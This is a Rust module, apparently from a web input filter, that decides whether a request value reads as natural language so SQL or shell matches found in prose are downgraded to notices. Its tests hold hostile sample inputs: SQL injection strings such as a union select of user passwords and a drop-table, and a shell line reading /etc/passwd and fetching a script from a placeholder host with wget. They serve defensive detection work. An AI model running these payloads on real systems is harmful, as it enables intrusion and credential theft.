//! Whether a value reads as natural language, judged from the value alone
//! (no endpoint context): a support ticket, a recipe, a chat message, a
//! code review that talks about SQL or the shell. Detectors read grammar
//! (SQL, shell, markup), and prose borrows its words ("select the bread;
//! drop by the bakery"); a detector that finds something in a value that
//! reads as prose lets only the shapes prose cannot produce count in full.
//!
//! A value reads as prose when most of its whitespace-separated tokens are
//! words shaped like a dictionary's (letters, a vowel, no long consonant
//! runs, ordinary length), there are enough of them, SQL keywords are a
//! minority of them, and the text has a sentence's glue: punctuation that
//! ends a clause or a function word ("the", "to", "is"...). Bounded: only
//! the first [`MAX_TOKENS`] tokens are read.

use super::Hit;

/// What a finding that prose can produce scores in a value that reads as
/// prose: a notice, counted with other findings but never a block alone.
pub const PROSE_SCORE: f64 = 2.0;

/// A finding that prose can produce, found in prose: kept (explained by
/// its rule), scored as a notice.
pub fn as_notice(hit: Hit) -> Hit {
    Hit {
        score: hit.score.min(PROSE_SCORE),
        confidence: hit.confidence.min(0.5),
        ..hit
    }
}

/// Tokens read; a longer value is judged by its beginning.
const MAX_TOKENS: usize = 256;

/// Fewer words than this is a fragment, not prose.
const MIN_WORDS: usize = 4;

/// Longest token still counted as a word.
const MAX_WORD_LEN: usize = 24;

/// Share of tokens that must be dictionary-like words (numbers count as
/// neither for nor against).
const MIN_WORD_SHARE: f64 = 0.6;

/// Largest share of the words that may be SQL keywords.
const MAX_KEYWORD_SHARE: f64 = 0.4;

/// Words that glue a sentence together, in the languages traffic most
/// often carries. A sentence almost always has one.
const FUNCTION_WORDS: &[&str] = &[
    "a", "about", "after", "all", "am", "an", "any", "are", "at", "be", "been", "before", "but",
    "can", "could", "did", "do", "does", "for", "had", "has", "have", "he", "her", "here", "his",
    "how", "i", "i'm", "if", "is", "it", "it's", "its", "just", "me", "my", "no", "of", "off",
    "ok", "on", "our", "please", "she", "should", "so", "some", "than", "that", "the", "their",
    "them", "then", "there", "they", "this", "to", "up", "us", "very", "was", "we", "were", "what",
    "which", "who", "why", "will", "with", "would", "yes", "you", "your", "de", "la", "le", "les",
    "et", "est", "un", "une", "el", "los", "las", "y", "es", "en", "con", "por", "para", "der",
    "die", "das", "und", "ist", "nicht", "mit", "il", "di", "che", "do", "da", "não", "que",
];

/// SQL keywords: prose borrows a few, a query is mostly made of them.
const SQL_KEYWORDS: &[&str] = &[
    "select",
    "union",
    "insert",
    "update",
    "delete",
    "drop",
    "from",
    "where",
    "into",
    "values",
    "table",
    "exec",
    "execute",
    "declare",
    "having",
    "truncate",
    "alter",
    "create",
    "join",
    "null",
    "sleep",
    "benchmark",
    "waitfor",
    "delay",
    "limit",
    "concat",
    "char",
    "all",
    "case",
    "when",
    "then",
    "else",
    "end",
    "group",
    "order",
];

/// Function calls (`concat(`, `md5(x)`) that make a text code: one is a
/// sentence quoting a call, this many is a program.
const MAX_CALLS: usize = 2;

/// `concat(`, `char(20))`, `benchmark(1,md5(x))`: the names glued to
/// their parenthesis in one token.
fn calls_in(raw: &str) -> usize {
    raw.as_bytes()
        .windows(2)
        .filter(|w| w[1] == b'(' && (w[0].is_ascii_alphanumeric() || w[0] == b'_'))
        .count()
}

/// What one whitespace-separated token of the value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Token {
    /// A word shaped like a dictionary's; `keyword` when it is also SQL.
    Word { keyword: bool, function: bool },
    /// A number, a price, an order number, a date: neutral.
    Number,
    /// Anything else: operators, code, identifiers, glued symbols.
    Symbol,
    /// A single letter other than "a" and "I": a variable name as often as
    /// a word, so it counts for neither.
    Letter,
}

/// Punctuation that may open or close a word in a sentence.
fn is_wrapping(c: char) -> bool {
    matches!(
        c,
        '.' | ','
            | ';'
            | ':'
            | '!'
            | '?'
            | '('
            | ')'
            | '['
            | ']'
            | '"'
            | '\''
            | '\u{2018}'
            | '\u{2019}'
            | '\u{201c}'
            | '\u{201d}'
            | '\u{ab}'
            | '\u{bb}'
            | '\u{bf}'
            | '\u{a1}'
            | '*'
            | '_'
            | '`'
    )
}

/// A word as a dictionary spells it: letters (an inner apostrophe or
/// hyphen allowed), at least one vowel when it is ASCII, and no run of
/// five consonants (`xkcdq`, `wxyzt` are identifiers, not words).
fn is_dictionary_like(word: &str) -> bool {
    let len = word.chars().count();
    if len == 0 || len > MAX_WORD_LEN {
        return false;
    }
    let mut letters = 0;
    for c in word.chars() {
        if c.is_alphabetic() {
            letters += 1;
        } else if !matches!(c, '\'' | '-' | '\u{2019}') {
            return false;
        }
    }
    if letters == 0 || word.starts_with(['\'', '-']) || word.ends_with(['\'', '-']) {
        return false;
    }
    if !word.is_ascii() {
        return true;
    }
    let vowel = |c: char| matches!(c.to_ascii_lowercase(), 'a' | 'e' | 'i' | 'o' | 'u' | 'y');
    let mut run = 0;
    for c in word.chars() {
        run = if vowel(c) || !c.is_ascii_alphabetic() {
            0
        } else {
            run + 1
        };
        if run >= 5 {
            return false;
        }
    }
    len == 1 || word.chars().any(vowel)
}

/// `12`, `3.5`, `#1234`, `$20`, `-5.00`, `1/2`, `10:30`, `2024-03-01`.
fn is_number(token: &str) -> bool {
    let core = token.trim_start_matches(['#', '$', '\u{20ac}', '\u{a3}', '-', '+', '~']);
    let core = core.trim_end_matches(['%', 'g', 'h', 'm', 's', 'x']);
    !core.is_empty()
        && core.starts_with(|c: char| c.is_ascii_digit())
        && core
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | ',' | '/' | ':' | '-'))
}

fn classify(raw: &str) -> Token {
    let core = raw.trim_matches(is_wrapping);
    if is_number(core) {
        return Token::Number;
    }
    if !is_dictionary_like(core) {
        return Token::Symbol;
    }
    let lower = core.to_lowercase();
    if lower.chars().count() == 1 && !matches!(lower.as_str(), "a" | "i") {
        return Token::Letter;
    }
    Token::Word {
        keyword: SQL_KEYWORDS.contains(&lower.as_str()),
        function: FUNCTION_WORDS.contains(&lower.as_str()),
    }
}

/// A clause ends in the text: `,` `.` `;` `:` `!` `?` before a space or at
/// the end, as sentences write it.
fn has_clause_punctuation(text: &str) -> bool {
    let b = text.as_bytes();
    b.iter().enumerate().any(|(i, c)| {
        matches!(c, b',' | b'.' | b';' | b':' | b'!' | b'?')
            && i > 0
            && b[i - 1].is_ascii_alphanumeric()
            && b.get(i + 1).is_none_or(|n| *n == b' ')
    })
}

/// Whether `text` reads as natural language (see the module comment).
pub fn reads_as_prose(text: &str) -> bool {
    let (mut words, mut keywords, mut function_words, mut symbols) =
        (0usize, 0usize, 0usize, 0usize);
    let mut calls = 0usize;
    for raw in text.split_whitespace().take(MAX_TOKENS) {
        calls += calls_in(raw);
        match classify(raw) {
            Token::Word { keyword, function } => {
                words += 1;
                keywords += usize::from(keyword);
                function_words += usize::from(function);
            }
            Token::Number | Token::Letter => {}
            Token::Symbol => symbols += 1,
        }
    }
    let counted = (words + symbols) as f64;
    calls < MAX_CALLS
        && words >= MIN_WORDS
        && words as f64 >= MIN_WORD_SHARE * counted
        && (keywords as f64) <= MAX_KEYWORD_SHARE * words as f64
        && (function_words > 0 || has_clause_punctuation(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_and_lists_read_as_prose() {
        for prose in [
            "eggs, milk, select bread; drop by bakery -- 2 or 1=1 loaves",
            "Hi, I'm Ann. Order #1234 was charged twice; please drop one charge and update me.",
            "Nit: the `select` in line 42 fetches every column; list the ones you need.",
            "In SQL you select columns from a table: pick name and sort by it with ORDER BY.",
            "To list files run ls -la in the folder; then cd into it and check the permissions.",
            "ok so it's 2 or 3 of us tonight; union square at 7? drop me a line if you're late",
            "Lado realidad estados movimiento junto como democracia. Material menos pueda.",
            "Zoë D'Angelo a écrit: « le café est très bon », et c'est vrai.",
        ] {
            assert!(reads_as_prose(prose), "not read as prose: {prose}");
        }
    }

    #[test]
    fn queries_payloads_and_identifiers_do_not() {
        for not_prose in [
            "1 or 1=1",
            "' union select username, password from users where id = 1 --",
            "SELECT x GROUP BY y HAVING COUNT(Id) >= 9",
            "198.51.100.13, SELECT x GROUP BY SOMETHING HAVING COUNT(Id) >= 9",
            "IF EXISTS (SELECT * FROM users WHERE username = 'root') BENCHMARK(10,MD5(1))",
            "CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN CONCAT('a')",
            " case when 1=1 then 'a' end",
            "admin'--",
            "select * from users",
            "1;drop table users",
            "tok_1N3T00LkdHRBjc1r0000aAbB",
            "data.customer",
            "{\"a\": [1, 2, 3]}",
            "cat /etc/passwd; ls -la /var/www; wget http://x.test/s.sh",
            "",
            "hello world",
        ] {
            assert!(!reads_as_prose(not_prose), "read as prose: {not_prose}");
        }
    }

    #[test]
    fn word_shapes() {
        assert!(is_dictionary_like("O'Brien"));
        assert!(is_dictionary_like("well-known"));
        assert!(is_dictionary_like("rhythm"));
        assert!(is_dictionary_like("Müller"));
        assert!(!is_dictionary_like("xkcdqz"));
        assert!(!is_dictionary_like("1=1"));
        assert!(!is_dictionary_like("x'--"));
        assert!(!is_dictionary_like("'"));
        assert!(is_number("#1234"));
        assert!(is_number("$20.50"));
        assert!(is_number("2024-03-01"));
        assert!(!is_number("1=1"));
    }

    #[test]
    fn hostile_input_is_bounded() {
        let long = "word ".repeat(100_000);
        assert!(reads_as_prose(&format!("{long}, the end.")));
        let noise: String = (0u32..5000).filter_map(char::from_u32).collect();
        let _ = reads_as_prose(&noise);
    }
}
